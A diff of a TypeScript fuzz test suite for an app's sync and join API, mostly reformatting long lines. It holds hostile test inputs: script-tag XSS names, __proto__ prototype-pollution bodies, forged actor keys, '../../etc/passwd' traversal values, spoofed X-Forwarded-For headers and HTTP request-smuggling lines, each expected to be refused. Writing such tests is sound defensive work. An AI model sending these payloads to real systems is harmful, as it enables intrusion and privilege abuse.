+        body: JSON.stringify({ code: codes.liaison, name: '<script>alert(1)</script>', deviceId: 'd' }),
+      },
+      check: { kind: 'hostile-join', name: '<script>alert(1)</script>', role: 'liaison' },
+    });
   }
 
   // Numbers as strings, huge numbers.
   push('clientVersion "1"', '{"clientVersion":"1","ops":[{"id":"x"}]}', refuse(400, 'bad_request'));
   push('clientVersion 1e400', '{"clientVersion":1e400,"ops":[{"id":"x"}]}', refuse(400, 'bad_request'));
   push(`clientVersion ${'9'.repeat(400)}`, `{"clientVersion":${'9'.repeat(400)},"ops":[{"id":"x"}]}`, refuse(400, 'bad_request'));
-  for (const [field, value] of [['v', '"1"'], ['v', '1e400'], ['v', '1e308'], ['hlc', '1795881465195']] as const) {
+  for (const [field, value] of [
+    ['v', '"1"'],
+    ['v', '1e400'],
+    ['v', '1e308'],
+    ['hlc', '1795881465195'],
+  ] as const) {
     const op = validIssueOp();
     mustNotBeStored.add(String(op.id));
-    const json = field === 'v' ? JSON.stringify(op).replace(`"v":${RULES_VERSION}`, `"v":${value}`) : JSON.stringify(op).replace(/"hlc":"[^"]*"/, `"hlc":${value}`);
+    const json =
+      field === 'v' ? JSON.stringify(op).replace(`"v":${RULES_VERSION}`, `"v":${value}`) : JSON.stringify(op).replace(/"hlc":"[^"]*"/, `"hlc":${value}`);
     expect(json).toContain(`"${field}":${value}`);
     push(`op ${field} ${value}`, `{"clientVersion":1,"ops":[${json}]}`, { kind: 'refuse-or-rejected', opIds: [String(op.id)] });
   }
   for (const lat of ['"29.8"', '1e400', '-1e308', '90.0000001']) {
     const op = TEMPLATES['point.create']!(members.staff);
     mustNotBeStored.add(String(op.id));
-    out.push({ endpoint: 'POST /api/sync/push', label: `lat ${lat}`, request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(members.staff) }, body: `{"clientVersion":1,"ops":[${JSON.stringify(op).replace('"lat":29.86', `"lat":${lat}`)}]}` }, check: { kind: 'refuse-or-rejected', opIds: [String(op.id)] } });
+    out.push({
+      endpoint: 'POST /api/sync/push',
+      label: `lat ${lat}`,
+      request: {
+        method: 'POST',
+        path: '/api/sync/push',
+        headers: { ...JSON_CT, ...bearer(members.staff) },
+        body: `{"clientVersion":1,"ops":[${JSON.stringify(op).replace('"lat":29.86', `"lat":${lat}`)}]}`,
+      },
+      check: { kind: 'refuse-or-rejected', opIds: [String(op.id)] },
+    });
   }
-  for (const q of ['after=-1', 'after=NaN', 'after=1e3', 'after=9007199254740992', 'after=99999999999999999', `after=${'9'.repeat(400)}`, 'limit=-1', 'limit=0', 'limit=1001', 'limit=NaN', 'limit=1.5', 'after=0&limit=%2B1', 'after=0x1', 'after=%20%201']) {
-    out.push({ endpoint: 'GET /api/sync/pull', label: q, request: { method: 'GET', path: `/api/sync/pull?${q}`, headers: bearer(vol) }, check: refuse(400, 'bad_request') });
+  for (const q of [
+    'after=-1',
+    'after=NaN',
+    'after=1e3',
+    'after=9007199254740992',
+    'after=99999999999999999',
+    `after=${'9'.repeat(400)}`,
+    'limit=-1',
+    'limit=0',
+    'limit=1001',
+    'limit=NaN',
+    'limit=1.5',
+    'after=0&limit=%2B1',
+    'after=0x1',
+    'after=%20%201',
+  ]) {
+    out.push({
+      endpoint: 'GET /api/sync/pull',
+      label: q,
+      request: { method: 'GET', path: `/api/sync/pull?${q}`, headers: bearer(vol) },
+      check: refuse(400, 'bad_request'),
+    });
   }
-  out.push({ endpoint: 'GET /api/sync/pull', label: 'after past the end without afterId', request: { method: 'GET', path: '/api/sync/pull?after=9007199254740991', headers: bearer(vol) }, check: refuse(409, 'reset_required') });
+  out.push({
+    endpoint: 'GET /api/sync/pull',
+    label: 'after past the end without afterId',
+    request: { method: 'GET', path: '/api/sync/pull?after=9007199254740991', headers: bearer(vol) },
+    check: refuse(409, 'reset_required'),
+  });
 
   // Prototype pollution.
   const polluting = [
@@ -1281,44 +1894,110 @@ function handWrittenCases(): FuzzCase[] {
     const op = validIssueOp();
     const { actor, payload, ...rest } = op;
     mustNotBeStored.add(String(op.id));
-    push('op fields hidden in __proto__', `{"clientVersion":1,"ops":[${JSON.stringify(rest).slice(0, -1)},"__proto__":${JSON.stringify({ actor, payload })}}]}`, { kind: 'refuse-or-rejected', opIds: [String(op.id)] });
+    push(
+      'op fields hidden in __proto__',
+      `{"clientVersion":1,"ops":[${JSON.stringify(rest).slice(0, -1)},"__proto__":${JSON.stringify({ actor, payload })}}]}`,
+      { kind: 'refuse-or-rejected', opIds: [String(op.id)] },
+    );
     const op2 = validIssueOp();
     mustNotBeStored.add(String(op2.id));
-    push('payload with __proto__ and constructor keys', `{"clientVersion":1,"ops":[${JSON.stringify(op2).replace('"payload":{', '"payload":{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},')}]}`, { kind: 'refuse-or-rejected', opIds: [String(op2.id)] });
+    push(
+      'payload with __proto__ and constructor keys',
+      `{"clientVersion":1,"ops":[${JSON.stringify(op2).replace('"payload":{', '"payload":{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},')}]}`,
+      { kind: 'refuse-or-rejected', opIds: [String(op2.id)] },
+    );
   }
-  out.push({ endpoint: 'POST /api/join', label: 'role in __proto__', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `{"__proto__":{"role":"staff","work":"other"},"code":"${codes.volunteer}","name":"n","deviceId":"d"}` }, check: refuse(400, 'bad_request') });
-  out.push({ endpoint: 'POST /api/join', label: 'code in __proto__', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `{"__proto__":{"code":"${codes.staff}"},"name":"n","deviceId":"d"}` }, check: refuse(400, 'bad_request') });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: 'role in __proto__',
+    request: {
+      method: 'POST',
+      path: '/api/join',
+      headers: JSON_CT,
+      body: `{"__proto__":{"role":"staff","work":"other"},"code":"${codes.volunteer}","name":"n","deviceId":"d"}`,
+    },
+    check: refuse(400, 'bad_request'),
+  });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: 'code in __proto__',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `{"__proto__":{"code":"${codes.staff}"},"name":"n","deviceId":"d"}` },
+    check: refuse(400, 'bad_request'),
+  });
 
   // Duplicate keys: JSON.parse keeps the last, and what is judged is what is stored.
   {
     const op = validIssueOp();
     mustNotBeStored.add(String(op.id));
-    push('duplicate actor key, forged one last', `{"clientVersion":1,"ops":[${JSON.stringify(op).slice(0, -1)},"actor":"${members.liaison.id}"}]}`, { kind: 'refuse-or-rejected', opIds: [String(op.id)] });
+    push('duplicate actor key, forged one last', `{"clientVersion":1,"ops":[${JSON.stringify(op).slice(0, -1)},"actor":"${members.liaison.id}"}]}`, {
+      kind: 'refuse-or-rejected',
+      opIds: [String(op.id)],
+    });
   }
 
   // Authorization headers, by hand.
   for (const [label, headers] of [
     ['Authorization with a 12 KB value', { Authorization: `Bearer ${'B'.repeat(12_000)}` }],
     ['three Authorization headers', { Authorization: ['Basic a', 'Bearer b', `Digest ${'c'.repeat(100)}`] }],
-    ['token of another member with the volunteer\'s body', bearer(members.liaison)],
+    ["token of another member with the volunteer's body", bearer(members.liaison)],
   ] as Array<[string, Record<string, string | string[]>]>) {
     const op = validIssueOp();
     mustNotBeStored.add(String(op.id));
     const isForged = label.startsWith('token of another');
-    out.push({ endpoint: 'POST /api/sync/push', label, request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...headers }, body: opsBody([toJ(op)]) }, check: isForged ? { kind: 'refuse-or-rejected', opIds: [String(op.id)] } : refuse(401, 'unauthorized') });
+    out.push({
+      endpoint: 'POST /api/sync/push',
+      label,
+      request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...headers }, body: opsBody([toJ(op)]) },
+      check: isForged ? { kind: 'refuse-or-rejected', opIds: [String(op.id)] } : refuse(401, 'unauthorized'),
+    });
   }
 
   // Unknown paths.
-  for (const p of ['/api', '/api/', '/api/sync', '/api/sync/', '/api/sync/push/', '/api/Sync/Push', '/api//sync/push', '/api/sync/push.json', '/api/admin', '/api/sync/ops', '/api/members', '/api/invites', '/api/sync/%2e%2e']) {
-    out.push({ endpoint: 'unknown /api path', label: p, request: { method: 'POST', path: p, headers: { ...JSON_CT, ...bearer(members.staff) }, body: '{}' }, check: refuse(404, 'not_found') });
+  for (const p of [
+    '/api',
+    '/api/',
+    '/api/sync',
+    '/api/sync/',
+    '/api/sync/push/',
+    '/api/Sync/Push',
+    '/api//sync/push',
+    '/api/sync/push.json',
+    '/api/admin',
+    '/api/sync/ops',
+    '/api/members',
+    '/api/invites',
+    '/api/sync/%2e%2e',
+  ]) {
+    out.push({
+      endpoint: 'unknown /api path',
+      label: p,
+      request: { method: 'POST', path: p, headers: { ...JSON_CT, ...bearer(members.staff) }, body: '{}' },
+      check: refuse(404, 'not_found'),
+    });
   }
 
   // %2e%2e is a dot segment: this is "/", a page, where only GET is served (405).
-  out.push({ endpoint: 'unknown /api path', label: '/api/%2e%2e', request: { method: 'POST', path: '/api/%2e%2e', headers: { ...JSON_CT, ...bearer(members.staff) }, body: '{}' }, check: refuse(405, 'method_not_allowed') });
+  out.push({
+    endpoint: 'unknown /api path',
+    label: '/api/%2e%2e',
+    request: { method: 'POST', path: '/api/%2e%2e', headers: { ...JSON_CT, ...bearer(members.staff) }, body: '{}' },
+    check: refuse(405, 'method_not_allowed'),
+  });
 
   // The join limiter, on its own server with the default of 10 a minute per address.
   for (let i = 0; i < 10; i++) {
-    out.push({ endpoint: 'POST /api/join', server: 'limited', label: `guess ${i + 1} of 10`, request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: `GUESS${String(i).padStart(3, '2')}`, name: 'g', deviceId: 'g' }) }, check: refuse(400, 'invalid_code') });
+    out.push({
+      endpoint: 'POST /api/join',
+      server: 'limited',
+      label: `guess ${i + 1} of 10`,
+      request: {
+        method: 'POST',
+        path: '/api/join',
+        headers: JSON_CT,
+        body: JSON.stringify({ code: `GUESS${String(i).padStart(3, '2')}`, name: 'g', deviceId: 'g' }),
+      },
+      check: refuse(400, 'invalid_code'),
+    });
   }
   for (const [label, headers] of [
     ['11th attempt, even with a valid code', JSON_CT],
@@ -1326,22 +2005,88 @@ function handWrittenCases(): FuzzCase[] {
     ['X-Real-IP is ignored', { ...JSON_CT, 'X-Real-IP': '198.51.100.2' }],
     ['malformed JSON still counts', { ...JSON_CT }],
   ] as Array<[string, Record<string, string>]>) {
-    out.push({ endpoint: 'POST /api/join', server: 'limited', label, request: { method: 'POST', path: '/api/join', headers, body: label.startsWith('malformed') ? '{' : JSON.stringify({ code: codes.staff, name: 'g', deviceId: 'g' }) }, check: refuse(429, 'rate_limited') });
+    out.push({
+      endpoint: 'POST /api/join',
+      server: 'limited',
+      label,
+      request: {
+        method: 'POST',
+        path: '/api/join',
+        headers,
+        body: label.startsWith('malformed') ? '{' : JSON.stringify({ code: codes.staff, name: 'g', deviceId: 'g' }),
+      },
+      check: refuse(429, 'rate_limited'),
+    });
   }
   // Behind a trusted proxy (SITEWATCH_TRUST_PROXY=1) the first X-Forwarded-For entry is the address.
   for (let i = 0; i < 10; i++) {
-    out.push({ endpoint: 'POST /api/join', server: 'proxied', label: `proxied guess ${i + 1}`, request: { method: 'POST', path: '/api/join', headers: { ...JSON_CT, 'X-Forwarded-For': '203.0.113.7' }, body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }) }, check: refuse(400, 'invalid_code') });
+    out.push({
+      endpoint: 'POST /api/join',
+      server: 'proxied',
+      label: `proxied guess ${i + 1}`,
+      request: {
+        method: 'POST',
+        path: '/api/join',
+        headers: { ...JSON_CT, 'X-Forwarded-For': '203.0.113.7' },
+        body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }),
+      },
+      check: refuse(400, 'invalid_code'),
+    });
   }
-  out.push({ endpoint: 'POST /api/join', server: 'proxied', label: 'proxied 11th, with a spoofed first X-Forwarded-For entry (the proxy appends the real one last)', request: { method: 'POST', path: '/api/join', headers: { ...JSON_CT, 'X-Forwarded-For': '10.9.9.9, 203.0.113.7' }, body: '{}' }, check: refuse(429, 'rate_limited') });
-  out.push({ endpoint: 'POST /api/join', server: 'proxied', label: 'proxied, another client', request: { method: 'POST', path: '/api/join', headers: { ...JSON_CT, 'X-Forwarded-For': '203.0.113.8' }, body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }) }, check: refuse(400, 'invalid_code') });
-  out.push({ endpoint: 'POST /api/join', server: 'proxied', label: 'proxied, 5 KB X-Forwarded-For', request: { method: 'POST', path: '/api/join', headers: { ...JSON_CT, 'X-Forwarded-For': 'x'.repeat(5000) }, body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }) }, check: refuse(400, 'invalid_code') });
+  out.push({
+    endpoint: 'POST /api/join',
+    server: 'proxied',
+    label: 'proxied 11th, with a spoofed first X-Forwarded-For entry (the proxy appends the real one last)',
+    request: { method: 'POST', path: '/api/join', headers: { ...JSON_CT, 'X-Forwarded-For': '10.9.9.9, 203.0.113.7' }, body: '{}' },
+    check: refuse(429, 'rate_limited'),
+  });
+  out.push({
+    endpoint: 'POST /api/join',
+    server: 'proxied',
+    label: 'proxied, another client',
+    request: {
+      method: 'POST',
+      path: '/api/join',
+      headers: { ...JSON_CT, 'X-Forwarded-For': '203.0.113.8' },
+      body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }),
+    },
+    check: refuse(400, 'invalid_code'),
+  });
+  out.push({
+    endpoint: 'POST /api/join',
+    server: 'proxied',
+    label: 'proxied, 5 KB X-Forwarded-For',
+    request: {
+      method: 'POST',
+      path: '/api/join',
+      headers: { ...JSON_CT, 'X-Forwarded-For': 'x'.repeat(5000) },
+      body: JSON.stringify({ code: 'GUESS222', name: 'g', deviceId: 'g' }),
+    },
+    check: refuse(400, 'invalid_code'),
+  });
 
   // Events: bad auth, and valid streams the client closes.
-  for (const headers of [{}, { Authorization: 'Bearer' }, { Authorization: `Bearer ${members.revoked.token}` }, { Authorization: `bearer ${vol.token}` }] as Array<Record<string, string>>) {
+  for (const headers of [
+    {},
+    { Authorization: 'Bearer' },
+    { Authorization: `Bearer ${members.revoked.token}` },
+    { Authorization: `bearer ${vol.token}` },
+  ] as Array<Record<string, string>>) {
     const revokedToken = headers.Authorization === `Bearer ${members.revoked.token}`;
-    out.push({ endpoint: 'GET /api/sync/events', label: `events with ${JSON.stringify(headers).slice(0, 40)}`, request: { method: 'GET', path: '/api/sync/events', headers }, check: refuse(401, revokedToken ? 'revoked' : 'unauthorized') });
+    out.push({
+      endpoint: 'GET /api/sync/events',
+      label: `events with ${JSON.stringify(headers).slice(0, 40)}`,
+      request: { method: 'GET', path: '/api/sync/events', headers },
+      check: refuse(401, revokedToken ? 'revoked' : 'unauthorized'),
+    });
   }
-  for (let i = 0; i < 3; i++) out.push({ endpoint: 'GET /api/sync/events', label: 'valid stream', request: { method: 'GET', path: '/api/sync/events', headers: bearer(members.staff) }, check: { kind: 'sse' } });
+  for (let i = 0; i < 3; i++)
+    out.push({
+      endpoint: 'GET /api/sync/events',
+      label: 'valid stream',
+      request: { method: 'GET', path: '/api/sync/events', headers: bearer(members.staff) },
+      check: { kind: 'sse' },
+    });
 
   // photo bytes only for a hash a record of the token's work names; join's renew list bounded.
   const unnamed = 'c'.repeat(64);
@@ -1349,13 +2094,24 @@ function handWrittenCases(): FuzzCase[] {
   for (const [label, request] of [
     ['upload status of bytes no photo names', { method: 'GET', path: `/api/blobs/${unnamed}/upload`, headers: bearer(vol) }],
     ['chunk of bytes no photo names', { method: 'PUT', path: `/api/blobs/${unnamed}/upload?offset=0&total=5`, headers: octets, body: '<svg>' }],
-    ['chunk with a traversal offset, bytes no photo names', { method: 'PUT', path: `/api/blobs/${unnamed}/upload?offset=../../x&total=5`, headers: octets, body: 'x' }],
-    ['15 MiB total claimed, bytes no photo names', { method: 'PUT', path: `/api/blobs/${unnamed}/upload?offset=0&total=15728640`, headers: octets, body: Buffer.alloc(1000) }],
+    [
+      'chunk with a traversal offset, bytes no photo names',
+      { method: 'PUT', path: `/api/blobs/${unnamed}/upload?offset=../../x&total=5`, headers: octets, body: 'x' },
+    ],
+    [
+      '15 MiB total claimed, bytes no photo names',
+      { method: 'PUT', path: `/api/blobs/${unnamed}/upload?offset=0&total=15728640`, headers: octets, body: Buffer.alloc(1000) },
+    ],
   ] as Array<[string, FuzzRequest]>) {
     out.push({ endpoint: 'blob upload', label, request, check: refuse(409, 'not_referenced') });
   }
   for (const renew of [['A'.repeat(43), 42], Array.from({ length: 11 }, () => 'A'.repeat(43)), '<script>', ['../../etc/passwd'], [{}], { length: 1 }]) {
-    out.push({ endpoint: 'POST /api/join', label: `renew ${JSON.stringify(renew).slice(0, 30)}`, request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes.volunteer, name: 'r', deviceId: 'r', renew }) }, check: refuse(400, 'bad_request') });
+    out.push({
+      endpoint: 'POST /api/join',
+      label: `renew ${JSON.stringify(renew).slice(0, 30)}`,
+      request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes.volunteer, name: 'r', deviceId: 'r', renew }) },
+      check: refuse(400, 'bad_request'),
+    });
   }
   return out;
 }
@@ -1405,7 +2161,11 @@ beforeAll(async () => {
   servers.limited = await listen({ joinAttemptsPerMinute: 10, trustProxy: false });
   servers.proxied = await listen({ joinAttemptsPerMinute: 10, trustProxy: true });
   const join1 = async (role: Role, name: string): Promise<Member> => {
-    const a = await send(servers.main.base, { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes[role], name, deviceId: 'fuzz-dev' }) }, false);
+    const a = await send(
+      servers.main.base,
+      { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes[role], name, deviceId: 'fuzz-dev' }) },
+      false,
+    );
     expect(a.status).toBe(200);
     const r = JSON.parse(a.body.toString('utf8')) as JoinResponse;
     return { token: r.token, id: r.member.id, role };
@@ -1417,7 +2177,16 @@ beforeAll(async () => {
   await store.revokeMember(members.revoked.id, Date.now());
   // An issue for comments, edits and transitions to aim at.
   const create = TEMPLATES['issue.create']!(members.volunteer);
-  const a = await send(servers.main.base, { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(members.volunteer) }, body: JSON.stringify({ clientVersion: 1, ops: [create] }) }, false);
+  const a = await send(
+    servers.main.base,
+    {
+      method: 'POST',
+      path: '/api/sync/push',
+      headers: { ...JSON_CT, ...bearer(members.volunteer) },
+      body: JSON.stringify({ clientVersion: 1, ops: [create] }),
+    },
+    false,
+  );
   expect((JSON.parse(a.body.toString('utf8')) as PushResponse).results[0]?.status).toBe('accepted');
   existingIssue = String(create.entityId);
   const ops = await pullFrom(0);
@@ -1491,7 +2260,8 @@ describe('fuzz', () => {
         continue;
       }
       const { seq: _seq, ...rest } = got;
-      if (canon(rest) !== canon(sent)) mishandled.push(`op ${id} not stored verbatim: sent ${JSON.stringify(sent).slice(0, 200)}, stored ${JSON.stringify(rest).slice(0, 200)}`);
+      if (canon(rest) !== canon(sent))
+        mishandled.push(`op ${id} not stored verbatim: sent ${JSON.stringify(sent).slice(0, 200)}, stored ${JSON.stringify(rest).slice(0, 200)}`);
     }
     const joins = [...stored.values()].filter((o) => o.kind === 'member.join');
     for (const [memberId, { name, role }] of expectedJoins) {
@@ -1501,7 +2271,9 @@ describe('fuzz', () => {
     for (const id of mustNotBeStored) if (stored.has(id)) mishandled.push(`op ${id} from a refused request is in the log`);
     // Point 9: refused ops are kept within bounds (docs/security.md §5), however big they came.
     const raw = await database!.raw();
-    const [kept] = await raw.query<{ body: number | string; reason: number | string }>('SELECT max(length(body)) AS body, max(length(reason)) AS reason FROM rejections');
+    const [kept] = await raw.query<{ body: number | string; reason: number | string }>(
+      'SELECT max(length(body)) AS body, max(length(reason)) AS reason FROM rejections',
+    );
     await raw.close();
     if (Number(kept!.body) > 3 * REJECTED_BODY_CHARS) mishandled.push(`point 9: a refused op kept with ${kept!.body} characters`);
     if (Number(kept!.reason) > 2 * REJECTION_MESSAGE_CHARS + 100) mishandled.push(`point 9: a refusal's reason kept with ${kept!.reason} characters`);
@@ -1519,7 +2291,9 @@ describe('fuzz', () => {
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
 
     const seconds = ((Date.now() - started) / 1000).toFixed(1);
-    console.log(`fuzz: ${tally.tried} requests tried, ${mishandled.length} mishandled (0), ${tally.hostileStored} valid-but-hostile accepted and stored verbatim`);
+    console.log(
+      `fuzz: ${tally.tried} requests tried, ${mishandled.length} mishandled (0), ${tally.hostileStored} valid-but-hostile accepted and stored verbatim`,
+    );
     console.log(
       `fuzz: seed ${SEED}; ${generated.length} generated + ${handWritten.length} hand-written in ${seconds} s; ${tally.refused} refused with a 4xx, ${tally.allRejected} answered 200 with every op rejected, ${tally.harmless} harmless 200s (health, version, event streams), ${tally.hostileRefused} valid-but-hostile refused; by endpoint: ${[...byEndpoint].map(([k, n]) => `${k} ${n}`).join(', ')}`,
     );
@@ -1532,9 +2306,7 @@ describe('fuzz', () => {
 
   it('closes the server side of event streams that clients close', async () => {
     const streams = await Promise.all(
-      Array.from({ length: 20 }, () =>
-        send(servers.main.base, { method: 'GET', path: '/api/sync/events', headers: bearer(members.volunteer) }, true),
-      ),
+      Array.from({ length: 20 }, () => send(servers.main.base, { method: 'GET', path: '/api/sync/events', headers: bearer(members.volunteer) }, true)),
     );
     expect(streams.every((s) => s.status === 200)).toBe(true);
     for (let i = 0; i < 50 && servers.main.hub.size > 0; i++) await new Promise((r) => setTimeout(r, 20));
@@ -1544,7 +2316,11 @@ describe('fuzz', () => {
 
   it('sends the headers of docs/security.md §6: pages get the CSP and friends, API answers do not', async () => {
     const doc = readFileSync(new URL('../../docs/security.md', import.meta.url), 'utf8');
-    const documented = (name: string) => new RegExp(`^${name}: (.+)$`, 'm').exec(doc)?.[1]?.replace(/\s+\(.*$/, '').trim();
+    const documented = (name: string) =>
+      new RegExp(`^${name}: (.+)$`, 'm')
+        .exec(doc)?.[1]
+        ?.replace(/\s+\(.*$/, '')
+        .trim();
     const page = await send(servers.main.base, { method: 'GET', path: '/hello.txt', headers: {} }, false);
     expect(page.status).toBe(200);
     for (const name of ['Content-Security-Policy', 'X-Content-Type-Options', 'Referrer-Policy', 'Permissions-Policy']) {
@@ -1609,8 +2385,14 @@ describe('fuzz', () => {
       ['CONNECT', 'CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n'],
       ['unknown method', 'FROB /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
       ['header over 16 KB', `GET /api/health HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${'a'.repeat(20_000)}\r\nConnection: close\r\n\r\n`],
-      ['two different Content-Length', 'POST /api/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{}'],
-      ['Content-Length and chunked', 'POST /api/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n'],
+      [
+        'two different Content-Length',
+        'POST /api/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{}',
+      ],
+      [
+        'Content-Length and chunked',
+        'POST /api/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n',
+      ],
       ['garbage request line', '\u0000\u0001\u0002 hello\r\n\r\n'],
       ['HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
       ['HTTP/1.2', 'GET /api/health HTTP/1.2\r\nHost: x\r\nConnection: close\r\n\r\n'],
@@ -1624,7 +2406,9 @@ describe('fuzz', () => {
       const status = /^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1];
       if (status !== undefined) expect(Number(status), label).toBeGreaterThanOrEqual(400);
       if (status !== undefined) expect(Number(status), label).toBeLessThan(500);
-      lines.push(`${label}: ${status ?? 'closed without an answer'}${status && /application\/json/.test(answer) ? ' (JSON)' : status ? ' (no JSON body)' : ''}`);
+      lines.push(
+        `${label}: ${status ?? 'closed without an answer'}${status && /application\/json/.test(answer) ? ' (JSON)' : status ? ' (no JSON body)' : ''}`,
+      );
       expect(await health(servers.main), label).toBe(true);
     }
     console.log(`transport: ${lines.join('; ')}`);
